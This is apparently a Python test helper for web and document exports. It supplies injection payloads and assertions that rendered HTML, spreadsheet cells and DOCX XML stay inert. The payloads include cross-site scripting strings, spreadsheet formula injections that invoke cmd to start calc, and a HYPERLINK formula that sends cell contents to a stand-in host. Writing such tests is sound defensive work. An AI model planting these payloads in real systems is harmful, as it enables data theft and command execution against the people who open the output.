"""Hostile text, and checks that it came out harmless: for any test of a page or a download.

Use :data:`PAYLOADS` wherever people can type text that is shown again (answers, quotes, site and
session names, emails), then:

* HTML: ``assert_inert_html(html)`` (no live script, no event handler, no injected element),
* spreadsheets (CSV, XLSX): ``assert_inert_cell(value)`` for every cell as the spreadsheet will
  read it (text cells must not start with a formula character),
* DOCX: ``assert_inert_text(text)`` on the document's XML: the payload must appear only escaped.
"""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{{ 7*7 }}",  # template injection: must come out as typed, never as 49
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Live(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        names = {name.lower() for name, _ in attrs}
        attributes = dict(attrs)
        if tag == "script":
            if "src" not in names:
                self.problems.append("inline <script>")
        if tag == "style":
            self.problems.append("inline <style>")
        if "style" in names:
            self.problems.append(f"style= attribute on <{tag}>")
        for name in names:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
        if tag == "img" and attributes.get("src") == "x":
            self.problems.append("injected <img src=x>")
        for name in ("href", "src", "action"):
            if (attributes.get(name) or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"javascript: URL in {name}")


def live_markup(html: str) -> list[str]:
    """Everything in a page that would run script or carry inline style; empty when clean."""
    parser = _Live()
    parser.feed(html)
    return parser.problems


def assert_inert_html(html: str) -> None:
    problems = live_markup(html)
    assert not problems, problems
    assert "<script>alert(1)</script>" not in html
    assert "49" not in html.split("{{ 7*7 }}")[0][-5:] if "{{ 7*7 }}" in html else True


def assert_inert_cell(value) -> None:
    """A spreadsheet cell holding typed text shows it as text, never runs it."""
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), f"formula cell: {value!r}"


def assert_inert_text(xml: str) -> None:
    """Document XML (DOCX) carries the payloads escaped, never as markup."""
    assert "<script>" not in xml and "<img src=x" not in xml and "<svg onload" not in xml
